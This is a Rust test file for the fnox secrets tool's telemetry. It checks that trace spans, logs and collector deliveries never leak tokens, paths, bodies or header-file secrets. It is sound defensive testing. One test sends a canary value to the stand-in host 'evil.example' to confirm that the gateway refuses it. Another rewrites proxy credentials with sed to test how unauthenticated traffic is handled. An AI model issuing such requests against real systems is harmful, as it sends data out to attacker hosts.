//! Traces of the team server and of gateways: with the feature `opentelemetry` a collector gets them, without it the table is refused.

use fnox_testkit::{Invocation, Sandbox};

use crate::support;

/// A server that is set up, with these lines at the end of its server.toml.
fn set_up(more: &str) -> Sandbox {
    let sandbox = support::sandbox();
    let folder = sandbox.root().join("server");
    let mut init = sandbox.run(["serve", "init", "--dir"]);
    init.command().arg(&folder);
    init.finish().succeeds();
    let path = folder.join("server.toml");
    let text = sandbox.read(&path);
    sandbox.write_private(&path, format!("{text}\n{more}"));
    sandbox
}

fn serve(sandbox: &Sandbox) -> Invocation {
    let mut serve = sandbox.run(["serve", "--listen", "127.0.0.1:0", "--config"]);
    serve
        .command()
        .arg(sandbox.root().join("server/server.toml"));
    serve
}

#[cfg(not(feature = "opentelemetry"))]
#[test]
fn a_build_without_it_refuses_the_table_and_says_how_to_build() {
    let sandbox = set_up("[telemetry]\nendpoint = \"http://127.0.0.1:4318\"\n");
    let refused = serve(&sandbox).finish().exits_with(3);
    assert!(
        refused.stderr.contains("server::settings")
            && refused.stderr.contains("--features opentelemetry"),
        "{refused}"
    );
}

#[cfg(not(feature = "opentelemetry"))]
#[test]
fn a_gateway_without_it_refuses_the_table_too() {
    let world = crate::gateway_support::World::new("");
    let path = world.vault.sandbox.config_folder().join("gateway.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let more = "[telemetry]\nendpoint = \"http://127.0.0.1:4318\"\n";
    world.vault.sandbox.write_private(&path, text + more);
    let refused = world.vault.sandbox.run(["gateway", "serve"]).finish();
    let refused = refused.exits_with(3);
    assert!(
        refused
            .stderr
            .contains("gateway.toml has a [telemetry] table")
            && refused.stderr.contains("--features opentelemetry"),
        "{refused}"
    );
}

#[cfg(not(feature = "opentelemetry"))]
#[test]
fn an_agents_run_without_it_refuses_the_table_too() {
    let table = "telemetry = { endpoint = \"http://127.0.0.1:4318\" }";
    let project = crate::agent_support::Project::with(table, "");
    let refused = project.agent("true").finish().exits_with(3);
    assert!(
        refused
            .stderr
            .contains("fnox.toml has a [proxy.telemetry] table")
            && refused.stderr.contains("--features opentelemetry"),
        "{refused}"
    );
}

#[cfg(feature = "opentelemetry")]
mod with_the_feature {
    use std::io::{Read as _, Write as _};
    use std::net::TcpStream;
    use std::time::Duration;

    use fnox_testkit::wait::{until, until_some};
    use fnox_testkit::{Canary, Running, Sandbox};
    use rustix::process::Signal;

    use super::{serve, set_up};
    use crate::telemetry_collector::{Collector, Span};

    const LIMIT: Duration = Duration::from_mins(1);
    const CANARY: &str = "canary-8DvZ0tq3Xw";
    /// `SPAN_KIND_SERVER`
    const SERVER: u64 = 2;

    struct Server {
        _sandbox: Sandbox,
        running: Running,
        address: String,
    }

    impl Server {
        fn start(sandbox: Sandbox) -> Self {
            let mut running = serve(&sandbox).start();
            let address = until_some("the server's address", LIMIT, || {
                let runs = running.is_running();
                let said = running.stderr_so_far();
                assert!(runs, "the server did not start: {said}");
                let (_, rest) = said.split_once("serving at http://")?;
                let (address, _) = rest.split_once('\n')?;
                Some(address.to_owned())
            });
            Self {
                _sandbox: sandbox,
                running,
                address,
            }
        }

        /// One that sends its traces there.
        fn sending_to(collector: &Collector) -> Self {
            let table = format!("[telemetry]\nendpoint = \"{}\"\n", collector.url);
            Self::start(set_up(&table))
        }

        /// Sends a request; its status.
        fn ask(&self, line: &str, headers: &str) -> u16 {
            let mut stream = TcpStream::connect(&self.address).unwrap();
            write!(
                stream,
                "{line} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{headers}\r\n",
                self.address
            )
            .unwrap();
            let mut answer = String::new();
            stream.read_to_string(&mut answer).unwrap();
            let status = answer.split(' ').nth(1).expect("a status");
            status.parse().unwrap()
        }

        /// Ends it as a service manager does; its log.
        fn stop(self) -> String {
            self.running.signal(Signal::TERM);
            self.running.finish().exits_with(0).stderr
        }
    }

    fn named<'a>(spans: &'a [Span], name: &str) -> &'a Span {
        let names: Vec<&str> = spans.iter().map(|span| span.name.as_str()).collect();
        let span = spans.iter().find(|span| span.name == name);
        span.unwrap_or_else(|| panic!("{name} is not in {names:?}"))
    }

    #[test]
    fn a_collector_gets_a_span_for_each_request_before_the_server_has_ended() {
        let collector = Collector::start();
        let server = Server::sending_to(&collector);
        assert_eq!(server.ask("GET /healthz", ""), 200);
        assert_eq!(server.ask("GET /v1/projects/my-app/secrets", ""), 401);
        server.stop();
        let spans = collector.spans();
        let span = named(&spans, "GET /healthz");
        assert_eq!(span.kind, SERVER);
        assert_eq!(span.resource["service.name"], "fnox");
        assert_eq!(span.attributes["http.request.method"], "GET");
        assert_eq!(span.attributes["http.route"], "/healthz");
        assert_eq!(span.attributes["http.response.status_code"], "200");
        let span = named(&spans, "GET /v1/projects/{project}/secrets");
        assert_eq!(span.attributes["http.response.status_code"], "401");
        assert_eq!(spans.len(), 2);
        for delivery in collector.deliveries() {
            assert_eq!(delivery.line, "POST /v1/traces");
            assert_eq!(delivery.headers["content-type"], "application/x-protobuf");
        }
    }

    #[test]
    fn spans_say_nothing_that_was_asked_but_the_route() {
        let collector = Collector::start();
        let server = Server::sending_to(&collector);
        let bearer = format!("Authorization: Bearer {CANARY}\r\nX-Request-Id: {CANARY}\r\n");
        let traced = format!("traceparent: {CANARY}\r\nUser-Agent: {CANARY}\r\n");
        let body = format!("{{\"{CANARY}\":1}}");
        let json = format!(
            "Content-Type: application/json\r\nContent-Length: {}\r\n{bearer}",
            body.len()
        );
        server.ask(&format!("GET /a/{CANARY}"), &traced);
        server.ask(
            &format!("GET /v1/projects/{CANARY}/secrets/{CANARY}"),
            &bearer,
        );
        server.ask(
            &format!("GET /v1/approvals/{CANARY}?wait={CANARY}"),
            &bearer,
        );
        server.ask(&format!("GET /{CANARY}/{CANARY}?{CANARY}"), &traced);
        server.ask(&format!("{CANARY} /healthz"), "");
        let mut stream = TcpStream::connect(&server.address).unwrap();
        write!(
            stream,
            "POST /v1/sessions HTTP/1.1\r\nHost: a\r\nConnection: close\r\n{json}\r\n{body}"
        )
        .unwrap();
        stream.read_to_end(&mut Vec::new()).unwrap();
        server.stop();
        let spans = collector.spans();
        assert_eq!(spans.len(), 6, "{spans:?}");
        named(&spans, "POST /v1/sessions");
        named(&spans, "GET /v1/approvals/{id}");
        named(&spans, "HTTP /healthz");
        let canary = Canary::new(CANARY);
        for delivery in collector.deliveries() {
            canary.assert_absent(&[("a delivery", &delivery.body)], &[]);
        }
        // Trace state, events, links and a status' message: none of them is ever sent.
        for span in &spans {
            for number in [3, 11, 13] {
                assert!(!span.fields.contains(&number), "{span:?}");
            }
        }
    }

    #[test]
    fn a_collector_that_refuses_is_told_of_once_until_it_takes_again() {
        let collector = Collector::answering(503);
        let server = Server::sending_to(&collector);
        let told = |text: &str| server.running.stderr_so_far().matches(text).count();
        for deliveries in 1..=2 {
            assert_eq!(server.ask("GET /healthz", ""), 200);
            until("a delivery", LIMIT, || {
                collector.deliveries().len() >= deliveries
            });
        }
        collector.answer(200);
        assert_eq!(server.ask("GET /healthz", ""), 200);
        until("the word that it works", LIMIT, || {
            told("delivered again") == 1
        });
        assert_eq!(told("traces are not delivered"), 1);
        let log = server.stop();
        assert!(log.contains("the collector answered 503"), "{log}");
    }

    #[test]
    fn a_collector_that_never_answers_holds_up_neither_requests_nor_the_end() {
        let collector = Collector::silent();
        let server = Server::sending_to(&collector);
        assert_eq!(server.ask("GET /healthz", ""), 200);
        until("a delivery", LIMIT, || !collector.deliveries().is_empty());
        // More than a queue and a delivery can hold.
        for _ in 0..20 {
            assert_eq!(server.ask("GET /healthz", ""), 200);
        }
        let log = server.stop();
        assert!(log.contains("the server has ended"), "{log}");
    }

    #[test]
    fn a_collector_gets_the_headers_of_the_file_and_the_log_does_not() {
        let collector = Collector::start();
        let sandbox = set_up(&format!(
            "[telemetry]\nendpoint = \"{}\"\nheaders_file = \"headers\"\n",
            collector.url
        ));
        let path = sandbox.root().join("server/headers");
        sandbox.write_private(path, format!("# ours\nAuthorization: Bearer {CANARY}\n"));
        let server = Server::start(sandbox);
        server.ask("GET /healthz", "");
        let log = server.stop();
        let deliveries = collector.deliveries();
        let header = &deliveries[0].headers["authorization"];
        assert_eq!(header.to_str().unwrap(), format!("Bearer {CANARY}"));
        Canary::new(CANARY).assert_absent(&[("the log", log.as_bytes())], &[]);
    }

    #[test]
    fn headers_are_not_sent_in_clear_over_a_network() {
        let sandbox = set_up(
            "[telemetry]\nendpoint = \"http://10.0.0.1:4318\"\nheaders_file = \"headers\"\n",
        );
        let path = sandbox.root().join("server/headers");
        sandbox.write_private(path, format!("Authorization: Bearer {CANARY}\n"));
        let refused = serve(&sandbox).finish().exits_with(3);
        assert!(refused.stderr.contains("https"), "{refused}");
        assert!(!refused.stderr.contains(CANARY), "{refused}");
    }

    #[test]
    fn a_wrong_line_of_headers_is_named_and_not_shown() {
        let sandbox = set_up(
            "[telemetry]\nendpoint = \"http://127.0.0.1:4318\"\nheaders_file = \"headers\"\n",
        );
        let path = sandbox.root().join("server/headers");
        sandbox.write_private(path, format!("# ours\n{CANARY}\n"));
        let refused = serve(&sandbox).finish();
        assert_ne!(refused.code, Some(0));
        assert!(refused.stderr.contains("line 2"), "{refused}");
        assert!(!refused.stderr.contains(CANARY), "{refused}");
    }

    #[test]
    fn an_agents_run_sends_its_spans_before_it_ends() {
        use crate::agent_support::{Project, VALUE};

        let collector = Collector::start();
        let table = format!("telemetry = {{ endpoint = \"{}\" }}", collector.url);
        let project = Project::with(&table, "");
        project.prints(&format!(
            "curl -fsS -o /dev/null -H \"Authorization: Bearer $TOKEN\" -H 'X-Other: {CANARY}' $URL/{CANARY}; \
             https_proxy=$(printf %s \"$https_proxy\" | sed 's#//[^@]*@#//fnox:{CANARY}@#'); \
             curl -sS -o /dev/null $URL/b || true"
        ));
        let spans = collector.spans();
        assert_eq!(spans.len(), 2, "{spans:?}");
        let span = named(&spans, "GET");
        assert_eq!(span.kind, SERVER);
        for (name, value) in [
            ("fnox.agent", "agent"),
            ("server.address", "localhost"),
            ("server.port", &project.upstream.port().to_string()),
            ("fnox.outcome", "answered"),
            ("http.response.status_code", "200"),
        ] {
            assert_eq!(span.attributes[name], value, "{name}");
        }
        let rule = &span.attributes["fnox.rule"];
        assert!(rule.starts_with("1: "), "{rule}");
        let refused = named(&spans, "CONNECT");
        let code = &refused.attributes["error.type"];
        assert_eq!(code, "gateway::unauthenticated");
        assert!(
            !refused.attributes.contains_key("fnox.agent"),
            "{refused:?}"
        );
        for hidden in [CANARY, VALUE] {
            for delivery in collector.deliveries() {
                Canary::new(hidden).assert_absent(&[("a delivery", &delivery.body)], &[]);
            }
        }
    }

    #[test]
    fn a_gateways_spans_say_who_went_where_and_nothing_of_what_was_asked() {
        use crate::gateway_support::{VALUE, World};

        let collector = Collector::start();
        let mut world = World::new("");
        let gateway = world.gateway.take().unwrap();
        gateway.signal(Signal::TERM);
        gateway.finish().exits_with(0);
        let path = world.vault.sandbox.config_folder().join("gateway.toml");
        let text = std::fs::read_to_string(&path).unwrap();
        let more = format!("[telemetry]\nendpoint = \"{}\"\n", collector.url);
        world.vault.sandbox.write_private(&path, text + &more);
        world.start();
        let placeholder = world.placeholder();
        let header = format!("Authorization: Bearer {placeholder}");
        let other = format!("X-Other: {CANARY}");
        let url = world.upstream.url(&format!("/{CANARY}?a={CANARY}"));
        let sent = ["-fsS", "-H", &header, "-H", &other, "-d", CANARY, &url];
        world.curl(&sent).succeeds();
        world.curl(&["-sS", &format!("https://evil.example/{CANARY}")]);
        let gateway = world.gateway.take().unwrap();
        gateway.signal(Signal::TERM);
        gateway.finish().exits_with(0);
        let spans = collector.spans();
        assert_eq!(spans.len(), 2, "{spans:?}");
        let span = named(&spans, "POST");
        assert_eq!(span.kind, SERVER);
        for (name, value) in [
            ("fnox.agent", "coder-1"),
            ("server.address", "localhost"),
            ("server.port", &world.upstream.port().to_string()),
            ("fnox.outcome", "answered"),
            ("http.response.status_code", "200"),
            ("http.request.body.size", &CANARY.len().to_string()),
            ("fnox.lease", &world.lease()),
        ] {
            assert_eq!(span.attributes[name], value, "{name}");
        }
        let refused = named(&spans, "GET");
        assert_eq!(refused.attributes["error.type"], "gateway::no_rule");
        for hidden in [CANARY, VALUE, &placeholder] {
            for delivery in collector.deliveries() {
                Canary::new(hidden).assert_absent(&[("a delivery", &delivery.body)], &[]);
            }
        }
    }
}
